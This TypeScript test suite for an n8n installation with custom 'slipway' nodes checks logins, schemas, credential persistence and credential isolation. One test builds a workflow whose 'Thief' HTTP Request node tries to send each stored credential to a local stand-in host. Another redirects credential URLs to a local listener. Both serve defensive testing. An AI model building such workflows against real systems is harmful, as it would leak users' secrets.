import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';

import axios from 'axios';

import { executionError, waitForExecution } from '../../tools/executionOutcome';
import type { JsonRecord } from '../../tools/json';
import { ensureCredentials } from '../../tools/n8n/ensureCredentials';
import { sandboxCredentials } from '../../tools/sandboxCredentials';
import { confirmByPublicationStatus } from '../../tools/workflows/publication';
import { pushBundle } from '../../tools/workflows/push';
import { startStack, type TestStack } from '../n8n/realN8n';

interface Listener {
	readonly origin: string;
	/** Everything it was sent: method, path, headers and body. */
	readonly received: string[];
	close(): Promise<void>;
}

/** A host that keeps what it is sent, and answers 200, or 307 to another host. */
async function listen(redirectTo?: string): Promise<Listener> {
	const received: string[] = [];
	const server: Server = createServer((request, response) => {
		let body = '';
		request.on('data', (chunk: Buffer) => (body += chunk.toString()));
		request.on('end', () => {
			received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
			if (redirectTo === undefined) response.writeHead(200, { 'content-type': 'application/json' }).end('{}');
			else response.writeHead(307, { location: `${redirectTo}${request.url}` }).end();
		});
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	return {
		origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
		received,
		close: async () => await new Promise<void>((resolve) => server.close(() => resolve())),
	};
}

/** Not n8n's own, such as the board's login. */
function isOurs({ type }: { readonly type: string }): boolean {
	return type.startsWith('slipway');
}

describe("what is the user's alone", () => {
	let stack: TestStack;
	let foreign: Listener;
	let redirecting: Listener;

	beforeAll(async () => {
		foreign = await listen();
		redirecting = await listen(foreign.origin);
		stack = await startStack();
	}, 900_000);
	afterAll(async () => {
		await stack?.close();
		await redirecting?.close();
		await foreign?.close();
	});

	it('logs in with a password of this installation, and not with the one that was published', async () => {
		const { email, password } = stack.n8n.session.owner;
		const logIn = async (word: string): Promise<number> =>
			(
				await axios.post(
					`${stack.n8n.origin}/rest/login`,
					{ emailOrLdapLoginId: email, password: word },
					{ validateStatus: () => true, proxy: false },
				)
			).status;
		expect(password).toMatch(/^[\w-]{24}$/);
		expect(await logIn(password)).toBe(200);
		expect(await logIn('Slipway-local-1')).toBe(401);
		expect(await stack.n8nLog()).not.toContain(password);
	});

	it('hands the editor the fields of an operation that has not run', async () => {
		const schema = async (place: string) =>
			await axios.get<{ readonly properties?: object }>(`${stack.n8n.origin}/schemas/n8n-nodes-slipway.${place}.json`, {
				validateStatus: () => true,
				proxy: false,
			});
		const app = await schema('fly/1.0.0/app/get');
		expect(app.status).toBe(200);
		expect(Object.keys(app.data.properties ?? {})).toEqual(expect.arrayContaining(['name', 'organization']));
		expect((await schema('healthCheck/1.0.0')).data.properties).toHaveProperty('healthy');
		expect((await schema('fly/1.0.0/app/unheardOf')).status).toBe(404);
	});

	it('tests every credential, and keeps it from the host that a redirect names', async () => {
		const statuses: JsonRecord = {};
		for (const { type, name, data } of sandboxCredentials(stack.sandbox.origin).filter(isOurs)) {
			const good = (await stack.n8n.api.listCredentials()).find(
				(credential) => credential.type === type && credential.name === name,
			);
			const addresses = Object.keys(data).filter((key) => /url$/i.test(key));
			const misled = { ...data, ...Object.fromEntries(addresses.map((key) => [key, redirecting.origin])) };
			const bad = await stack.n8n.api.createCredential({ name: `Redirected ${name}`, type, data: misled });
			const asked = redirecting.received.length;
			statuses[name] = [
				(await stack.n8n.api.testCredential(good?.id ?? '')).status,
				(await stack.n8n.api.testCredential(bad.id)).status,
				redirecting.received.length > asked,
			];
		}
		const names = Object.keys(statuses);
		expect(names.length).toBeGreaterThanOrEqual(12);
		expect(statuses).toEqual(Object.fromEntries(names.map((name) => [name, ['OK', 'Error', true]])));
		expect(foreign.received).toEqual([]);
	});

	it('gives no credential to an HTTP Request node', async () => {
		const outcomes: string[] = [];
		for (const { id, name, type } of (await stack.n8n.api.listCredentials()).filter(isOurs)) {
			const trigger = {
				id: 'start',
				name: 'Start',
				type: 'n8n-nodes-base.manualTrigger',
				typeVersion: 1,
				position: [0, 0],
				parameters: {},
			};
			const thief = {
				id: 'thief',
				name: 'Thief',
				type: 'n8n-nodes-base.httpRequest',
				typeVersion: 4.2,
				position: [200, 0],
				parameters: {
					url: `${foreign.origin}/collect`,
					authentication: 'predefinedCredentialType',
					nodeCredentialType: type,
					options: {},
				},
				credentials: { [type]: { id, name } },
			};
			try {
				const { id: workflowId } = await stack.n8n.api.createWorkflow({
					name: `Thief of ${id}`,
					nodes: [trigger, thief],
					connections: { Start: { main: [[{ node: 'Thief', type: 'main', index: 0 }]] } },
					settings: {},
				});
				const execution = await waitForExecution(
					stack.n8n.api,
					await stack.n8n.session.runWorkflow(workflowId, 'Start'),
					30_000,
				);
				outcomes.push(executionError(execution) ?? `${type}: ran`);
			} catch (error) {
				outcomes.push(String(error));
			}
		}
		expect(outcomes.length).toBeGreaterThanOrEqual(8);
		expect(outcomes.filter((outcome) => !/restricted to|prevent use/.test(outcome))).toEqual([]);
		expect(foreign.received).toEqual([]);
	});

	it('leaves a credential that a person changed as it is when it starts again', async () => {
		const { api } = stack.n8n;
		const seeds = sandboxCredentials(stack.sandbox.origin);
		const options = { notesFile: join(stack.n8n.userFolder, 'slipway-credentials.json') };
		const mine = (await ensureCredentials(api, seeds, options))[0];
		if (!mine) throw new Error('There is no credential.');
		await api.updateCredential(mine.id, { name: 'My real GitHub', data: { ...seeds[0]?.data, accessToken: 'mine' } });
		const changed = (await api.listCredentials()).find(({ id }) => id === mine.id);

		const otherSandbox = sandboxCredentials('http://127.0.0.1:1');
		await ensureCredentials(api, otherSandbox, options);

		const after = await api.listCredentials();
		expect(after.find(({ id }) => id === mine.id)).toEqual(changed);
		expect(after.filter(({ type }) => type === mine.type && !type.startsWith('Redirected'))).toHaveLength(2);
		expect(after.find(({ type, name }) => type === 'slipwayNetlifyApi' && name === 'Netlify')?.updatedAt).not.toBe(
			mine.updatedAt,
		);
		await ensureCredentials(api, seeds, options);
		await api.updateCredential(mine.id, { name: 'GitHub', data: { ...seeds[0]?.data } });
	});

	it('keeps the repository that a person chose, published, with its own hook', async () => {
		const { api, session } = stack.n8n;
		const confirmPublication = confirmByPublicationStatus(session.publicationStatus);
		const intake = (await api.listWorkflows()).find(({ name }) => name.startsWith('Slipway 01'));
		if (!intake) throw new Error('Workflow 01 is not there.');
		const chosen = {
			events: ['push'],
			filters: { branches: 'trunk' },
			registerOn: 'repository',
			repository: { __rl: true, mode: 'name', value: 'candlefish-ai/paintbox' },
		};
		const nodes = intake.nodes.map((node) =>
			String(node.type).endsWith('Trigger') ? { ...node, parameters: chosen } : node,
		);
		await api.unpublishWorkflow(intake.id);
		await api.updateWorkflow(intake.id, {
			name: intake.name,
			nodes,
			connections: intake.raw.connections as JsonRecord,
			settings: {},
		});
		await api.publishWorkflow(intake.id);
		expect(await confirmPublication(intake.id)).toBeUndefined();

		const report = await pushBundle({ api, bundle: stack.bundle, confirmPublication });

		const after = await api.getWorkflow(intake.id);
		expect(after.nodes.find(({ type }) => String(type).endsWith('Trigger'))?.parameters).toEqual(chosen);
		expect(after.active).toBe(true);
		expect(report.workflows.find(({ id }) => id === intake.id)).toMatchObject({
			change: 'unchanged',
			publication: 'kept',
			problems: [],
		});
		expect(report.isComplete).toBe(true);
	});
});
